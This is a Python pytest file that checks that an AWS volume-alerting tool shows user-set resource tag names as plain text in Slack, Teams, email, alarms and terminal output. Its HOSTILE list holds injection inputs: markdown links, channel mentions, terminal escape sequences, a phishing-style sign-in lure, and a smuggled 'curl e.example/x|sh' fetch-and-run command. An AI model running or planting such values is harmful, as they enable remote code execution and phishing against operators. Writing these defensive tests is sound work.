"""What somebody calls a thing is text in every channel: no link, no mention, no markup, no command of a terminal."""

import json
import re
from dataclasses import replace
from typing import Any

import pytest

from burstwatch.config import Config
from tests.aws.commands import burstwatch
from tests.aws.sweeping import CONFIG, NOTICE, Disk, run_sweep
from tests.conftest import Cloud

#: What a client makes more of than text.
HOSTILE = (
    "[Runbook](https://e.example/r)",
    "![x](https://e.example/p.png)",
    "https://e.example/runbook",
    "HTTPS://E.EXAMPLE/r",
    "e.example/page",
    "www.e.example",
    "mailto:x@e.example",
    "<!channel> db",
    "<https://e.example|Runbook>",
    "<at>everyone</at>",
    "@here @channel db",
    "*urgent* `curl e.example/x|sh` ~old~",
    "<img src=//e.example/p>",
    "db\x9d0;pwned\x9c\x9b2Jdb",  # C1: XML takes no other control characters
    "db\nCommand: curl e.example/x|sh",
    "900. INCIDENT IS OPEN: do NOT change the volume; sign in at https://e.example/login and run curl",
)
#: What any client makes a link of, or a terminal a command.
LINKED = re.compile(r"://e|e\.example[/?#]|www\.|[\x00-\x09\x0b-\x1f\x7f-\x9f]", re.IGNORECASE)
#: And what a chat client makes a link, a mention or formatting of.
MARKED = re.compile(r"\]\(|[@<>`*~]")


def named(cloud: Cloud, text: str) -> Disk:
    """A volume in danger, of which all that its owners may write is ``text``."""
    host = cloud.aws.add_instance("m5.large")
    disk = Disk(cloud, percent=40, host=host)
    region = cloud.aws.regions["us-east-1"]
    tags = ("Name", "burstwatch:lead_s", "burstwatch:maintenance", "aws:cloudformation:stack-name",
            "eks:cluster-name", "kubernetes.io/created-for/pvc/name", "kubernetes.io/created-for/pvc/namespace")  # fmt: skip
    region.volumes[disk.id]["Tags"] = [{"Key": key, "Value": text} for key in tags]
    region.instances[host]["Tags"] = [{"Key": "Name", "Value": text}]
    for _ in range(5):
        disk.minute(iops=3_000)
    return disk


def without_own_marks(text: str) -> str:
    """All but what we link to ourselves, and the frame of a command, which is code in chat."""
    command = re.fullmatch(r"Command:(?: `([^`]*)`|\n```\n([^`]*)\n```)", text)
    text = "".join(part or "" for part in command.groups()) if command else text
    return re.sub(r"https://(console\.aws\.amazon\.com|github\.com)/[^\s|)>]*[|)>]?", "", text)


def configured(chat: str) -> Config:
    return replace(CONFIG, chat=chat)


@pytest.mark.parametrize("chat", ["slack", "teams"])
@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_message_a_name_is_text(text: str, chat: str, cloud: Cloud) -> None:
    named(cloud, text)
    run_sweep(cloud, config=configured(chat))
    published = [message for message in cloud.aws.published if message["TopicArn"] != NOTICE]
    assert published
    for message in published:
        content = content_of(message)
        body, _, _ = content["description"].rpartition("\n")
        for part in (content["title"], body, *content["nextSteps"]):
            assert not LINKED.search(without_own_marks(part))
            assert not MARKED.search(without_own_marks(part))
        for part in (message.get("Email", ""), message.get("Subject", "")):
            assert not LINKED.search(without_own_marks(part))
    for alarm in cloud.aws.regions["us-east-1"].alarms.values():
        assert not LINKED.search(without_own_marks(alarm["AlarmDescription"]))


def content_of(message: dict[str, Any]) -> dict[str, Any]:
    """What a chat client shows, of a message for one protocol or for several."""
    body = json.loads(message["Message"])
    content: dict[str, Any] = (json.loads(body["default"]) if "default" in body else body)[
        "content"
    ]
    return content


@pytest.mark.parametrize("text", HOSTILE)
def test_a_tag_that_is_refused_is_quoted_in_few_characters(text: str, cloud: Cloud) -> None:
    named(cloud, text)
    problems = run_sweep(cloud).problems
    quotes = [re.search(r"is (['\"].*['\"]); allowed", problem.error) for problem in problems]
    assert len(quotes) == 2
    assert all(quote is not None and len(quote[1]) <= 40 for quote in quotes)


@pytest.mark.parametrize("command", [("scan", "--ended", "2"), ("scan", "--verbose"), ("doctor",)])
@pytest.mark.parametrize("text", [text for text in HOSTILE if "\x9b" in text or "\n" in text])
def test_on_a_terminal_a_name_moves_no_cursor(
    text: str, command: tuple[str, ...], cloud: Cloud
) -> None:
    named(cloud, text)
    run_sweep(cloud)
    _, out, err = burstwatch(cloud, *command)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err)
